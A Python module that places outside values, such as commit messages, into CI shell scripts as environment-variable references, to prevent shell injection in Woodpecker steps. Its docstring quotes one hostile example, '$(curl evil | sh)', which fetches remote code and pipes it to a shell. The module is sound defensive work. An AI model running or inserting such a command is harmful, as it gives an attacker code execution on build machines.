"""Inserts values from outside into shell scripts without shell injection.

A commit message is whatever its author wrote: ``$(curl evil | sh)`` too. Woodpecker pastes it into the commands. Here a
value that could mean something to a shell reaches the step as an environment variable, and the script has ``${NAME}``
in its place. The user sees the same output; an attacker's code stays text.
"""

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import NamedTuple

OPEN, CLOSE = "\ue000", "\ue001"
"""Enclose the number of a value from outside: its placeholder in the text until the YAML has been read."""

_PLACEHOLDER = re.compile(f"{OPEN}([0-9]+){CLOSE}")
_SHELL_SAFE = re.compile(r"[A-Za-z0-9_./:@%+,-]*")


class OutsideValue(NamedTuple):
    """A value that is not from the file. ``variable`` is the environment variable that carries it, or empty."""

    variable: str
    value: str


@dataclass(frozen=True)
class ShellText:
    """Script text, and the environment variables that it needs."""

    text: str
    values: tuple[tuple[str, str], ...]


def insert_values(text: str, outside: Sequence[OutsideValue]) -> str:
    """``text`` with every placeholder replaced by its value."""
    return _PLACEHOLDER.sub(lambda placeholder: outside[int(placeholder[1])].value, text)


def shell_text(text: str, outside: Sequence[OutsideValue]) -> ShellText:
    """``text`` as part of a script: each placeholder becomes ``${NAME}``, or its value if that is safe in a shell."""
    parts: list[str] = []
    values: dict[str, str] = {}
    quote = ""
    end = 0
    for placeholder in _PLACEHOLDER.finditer(text):
        between = text[end : placeholder.start()]
        quote = _quote_after(between, quote)
        found = outside[int(placeholder[1])]
        parts += [between, _reference(found, quote)]
        if not _is_safe(found):
            values[found.variable] = found.value
        end = placeholder.end()
    return ShellText("".join([*parts, text[end:]]), tuple(values.items()))


def _is_safe(found: OutsideValue) -> bool:
    return not found.variable or _SHELL_SAFE.fullmatch(found.value) is not None


def _reference(found: OutsideValue, quote: str) -> str:
    if _is_safe(found):
        return found.value
    # Between single quotes a shell expands nothing, so they are closed around the variable.
    return f"'\"${{{found.variable}}}\"'" if quote == "'" else f"${{{found.variable}}}"


# Tokens that may change the quoting state: outside of quotes, in single quotes, in double quotes.
_QUOTING = {
    "": re.compile(r"""\\.|(?:^|(?<=[\s;&|(]))\#[^\n]*|['"]""", re.DOTALL),
    "'": re.compile("'"),
    '"': re.compile(r"""\\.|["]""", re.DOTALL),
}


def _quote_after(text: str, quote: str) -> str:
    """The quote that is open at the end of ``text``. A wrong guess (here-documents) spoils the output, never safety."""
    end = 0
    while token := _QUOTING[quote].search(text, end):
        end = token.end()
        if token[0] in {"'", '"'}:
            quote = "" if quote else token[0]
    return quote
